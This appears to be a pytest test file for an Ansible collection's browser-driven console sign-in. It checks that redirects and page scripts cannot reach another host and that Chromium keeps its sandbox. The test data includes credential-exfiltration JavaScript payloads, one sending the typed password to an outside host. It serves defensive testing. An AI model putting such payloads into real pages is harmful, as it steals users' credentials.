# Copyright: ot_security.proxy_chaining contributors
# GNU General Public License v3.0+ (see LICENSE or https://www.gnu.org/licenses/gpl-3.0.txt)
# SPDX-License-Identifier: GPL-3.0-or-later

"""Where a real Chromium goes when a console leads it elsewhere: nowhere; and as whom it runs."""

from __future__ import annotations

import contextlib
import os
import pwd
import socket
import threading
from collections.abc import Iterator
from dataclasses import dataclass, field
from pathlib import Path

import pytest
from ansible_collections.ot_security.proxy_chaining.plugins.module_utils._console.browser import chromium
from ansible_collections.ot_security.proxy_chaining.plugins.module_utils._console.browser.gate import authority
from ansible_collections.ot_security.proxy_chaining.plugins.module_utils._console.browser.transport import (
    BrowserConsole,
)
from ansible_collections.ot_security.proxy_chaining.plugins.module_utils._console.labels import DOCUMENTED
from ansible_collections.ot_security.proxy_chaining.plugins.module_utils._console.model import (
    Account,
    ConsoleError,
    Trust,
    UnexpectedError,
)

from .fake_web import CHROMIUM, PASSWORD, USERNAME, Web, certify, serve

pytestmark = pytest.mark.skipif(not CHROMIUM, reason="no Chromium on the PATH; tools/programs installs one")

SIGN_IN = (
    "<form method=post action=/sign-in-form><label>Username<input name=u></label>"
    "<label>Password<input type=password name=p></label><button>Login</button></form>"
)


@dataclass
class Elsewhere:
    """Whoever else listens on this machine, and all that reaches it."""

    port: int
    heard: list[bytes] = field(default_factory=list)


@pytest.fixture
def elsewhere() -> Iterator[Elsewhere]:
    """Answer everybody with a sign-in page; TCP and UDP on the same port."""
    done = threading.Event()
    with contextlib.ExitStack() as stack:
        server = stack.enter_context(socket.create_server(("127.0.0.1", 0)))
        found = Elsewhere(server.getsockname()[1])
        udp = stack.enter_context(socket.socket(socket.AF_INET, socket.SOCK_DGRAM))
        udp.bind(("127.0.0.1", found.port))
        answer = (
            f"HTTP/1.1 200 OK\r\nContent-Type: text/html\r\nContent-Length: {len(SIGN_IN)}\r\n\r\n{SIGN_IN}".encode()
        )

        def tcp() -> None:
            while not done.is_set():
                with contextlib.suppress(OSError), server.accept()[0] as connection:
                    connection.settimeout(1)
                    found.heard.append(connection.recv(65536))
                    connection.sendall(answer)

        def datagrams() -> None:
            while not done.is_set():
                with contextlib.suppress(OSError):
                    found.heard.append(udp.recv(65536))

        for listener in (server, udp):
            listener.settimeout(0.1)
        threads = [threading.Thread(target=work) for work in (tcp, datagrams)]
        for thread in threads:
            thread.start()
        try:
            yield found
        finally:
            done.set()
            for thread in threads:
                thread.join(5)


@pytest.fixture
def web(tmp_path: Path) -> Iterator[Web]:
    with serve(certify(tmp_path, "console")) as found:
        yield found


@pytest.fixture
def console(web: Web, tmp_path: Path) -> Iterator[BrowserConsole]:
    found = BrowserConsole(
        web.url(), Account(USERNAME, PASSWORD), Trust(True, str(tmp_path / "console.pem")), DOCUMENTED, 4.0
    )
    yield found
    found.close()


@pytest.mark.parametrize(
    ("host", "written"),
    [
        ("2001:DB8:0::1", "[2001:db8::1]:8443"),
        ("192.0.2.1", "192.0.2.1:8443"),
        ("Sensor.example", "sensor.example:8443"),
    ],
)
def test_an_address_is_written_as_the_browser_does(host: str, written: str) -> None:
    assert authority(host, 8443) == written


def _leads(where: str, elsewhere: Elsewhere) -> str:
    return where.replace("ELSEWHERE", f"127.0.0.1:{elsewhere.port}").replace("LOCAL", f"localhost:{elsewhere.port}")


@pytest.mark.parametrize("where", ["http://ELSEWHERE/", "http://LOCAL/", "https://ELSEWHERE/"])
def test_a_redirect_elsewhere_gets_no_password(
    console: BrowserConsole, web: Web, elsewhere: Elsewhere, where: str
) -> None:
    web.answers["/"] = (302, {"Location": _leads(where, elsewhere)}, "")
    with pytest.raises(UnexpectedError, match=f"leads to .*:{elsewhere.port}, which is not the console"):
        console.sign_in()
    assert elsewhere.heard == []


@pytest.mark.parametrize(
    "script",
    [
        "location = 'http://ELSEWHERE/'",
        "open('http://ELSEWHERE/')",
        "fetch('http://ELSEWHERE/', {mode: 'no-cors'})",
        "fetch('http://LOCAL/', {mode: 'no-cors'})",
        "fetch('https://ELSEWHERE/', {mode: 'no-cors'})",
        "navigator.sendBeacon('http://LOCAL/', 'x')",
        "new Image().src = 'http://LOCAL/'",
        "new WebSocket('ws://LOCAL/')",
        "document.body.append(Object.assign(document.createElement('iframe'), {src: 'http://LOCAL/'}))",
        "document.head.append(Object.assign(document.createElement('link'), {rel: 'preconnect', href: 'http://LOCAL/'}))",
        "new EventSource('http://LOCAL/')",
        "Object.assign(document.createElement('a'), {href: 'http://LOCAL/', download: 'x'}).click()",
        "(p => (p.createDataChannel('x'), p.createOffer().then(o => p.setLocalDescription(o))))"
        "(window.kept = new RTCPeerConnection({iceServers: [{urls: 'stun:ELSEWHERE'}]}))",
        "document.forms[0].onsubmit = event => event.target.action = 'http://ELSEWHERE/'",
        "document.forms[0].onsubmit = () => location = 'http://ELSEWHERE/#' + document.querySelector('[type=password]').value",
        "document.forms[0].oninput = () => { location = 'http://ELSEWHERE/' }",
    ],
)
def test_nothing_that_a_page_does_reaches_another_place(
    console: BrowserConsole, web: Web, elsewhere: Elsewhere, script: str
) -> None:
    """Before and after the password is typed; what the page's own server is sent is its own."""
    web.answers["/"] = (200, {}, f"<!doctype html>{SIGN_IN}<script>{_leads(script, elsewhere)}</script>")
    with contextlib.suppress(ConsoleError):
        console.sign_in()
    if console._page is not None:
        console._page.wait_for_timeout(500)
        assert len(console._page.context.pages) == 1
    assert elsewhere.heard == []


def _browsers() -> Iterator[tuple[int, int, str]]:
    """Yield the user, the seccomp mode and the command line of each process of the browser that this process has started."""
    parents, found = {}, {}
    for process in Path("/proc").glob("[0-9]*"):
        with contextlib.suppress(OSError):
            line = (process / "cmdline").read_bytes().replace(b"\0", b" ").decode(errors="replace")
            status = dict(
                part.split(":\t", 1) for part in (process / "status").read_text().splitlines() if ":\t" in part
            )
            parents[int(process.name)] = int(status["PPid"])
            if "chrom" in line.split(" ")[0]:
                found[int(process.name)] = int(status["Uid"].split()[0]), int(status["Seccomp"]), line
    for process_id, what in found.items():
        parent = process_id
        while parent := parents.get(parent, 0):
            if parent == os.getpid():
                yield what


def test_the_browser_has_its_sandbox_and_no_rights(console: BrowserConsole) -> None:
    console.sign_in()
    found = list(_browsers())
    assert any("--type=renderer" in line and seccomp == 2 for _user, seccomp, line in found), found
    assert not any("--no-sandbox" in line for _user, _seccomp, line in found)
    if os.geteuid() == 0:
        assert {user for user, _seccomp, _line in found} == {pwd.getpwnam(chromium.NOBODY).pw_uid}
